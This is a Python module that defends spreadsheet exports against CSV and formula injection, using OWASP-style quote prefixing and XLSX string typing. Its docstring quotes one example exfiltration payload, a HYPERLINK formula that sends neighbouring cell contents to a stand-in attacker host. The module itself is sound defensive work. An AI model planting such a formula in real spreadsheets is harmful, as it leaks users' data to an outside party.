"""Spreadsheet exports that cannot run anything: every CSV and XLSX file the platform writes goes through here.

A cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and
LibreOffice (CSV or XLSX alike): an expert's headline `=HYPERLINK("https://evil.example?"&A1, "click")`
would become a live link that leaks the neighbouring cells, or worse (DDE). OWASP's advice is followed:

- CSV: such a cell is written with a leading single quote (`'=HYPERLINK(...)`), which spreadsheets show as
  text. A text that is a plain number (`-12`, `+3.5`) cannot be a formula and is written as it is.
- XLSX: every text cell is stored as a string (never a formula) and a risky one also gets the `quotePrefix`
  style, so that editing it in Excel keeps it text; its value is exactly the stored text.

Imports that read our own exports back (`experts import`) call `restore_cell`, which removes the quote this
module added (a `'` followed by one of those characters), so an export imports again unchanged. A text that
really began with `'=` would lose its quote on such a round trip: a deliberate trade for safe files.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

# What makes a spreadsheet read a cell as a formula (OWASP CSV injection: `=`, `+`, `-`, `@`, tab, CR).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# Characters XLSX (XML 1.0) cannot hold: openpyxl refuses them, so they are dropped, never a 500.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_risky(text: str) -> bool:
    """True when a spreadsheet would read the text as a formula."""
    return text.startswith(FORMULA_STARTS) and _PLAIN_NUMBER.fullmatch(text) is None


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: a risky text gets a leading `'`; numbers and other values stay."""
    if isinstance(value, str) and is_risky(value):
        return "'" + value
    return value


def restore_cell(value: Any) -> Any:
    """Undoes `csv_cell` on a cell read back from an export: `'=x` becomes `=x`; anything else stays."""
    if isinstance(value, str) and value.startswith("'") and is_risky(value[1:]):
        return value[1:]
    return value


def csv_text(rows: Iterable[Sequence[Any]], *, lineterminator: str = "\n") -> str:
    """Rows (the header first, if any) as CSV text, every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator)
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return out.getvalue()


def append_row(sheet: Any, values: Sequence[Any]) -> None:
    """Appends a row to an openpyxl worksheet: texts as strings (never formulas), risky ones quote-prefixed."""
    sheet.append([_XML_ILLEGAL.sub("", v) if isinstance(v, str) else v for v in values])
    if not values:
        return
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl made every text starting with "=" a formula
            if is_risky(cell.value):
                cell.quotePrefix = True
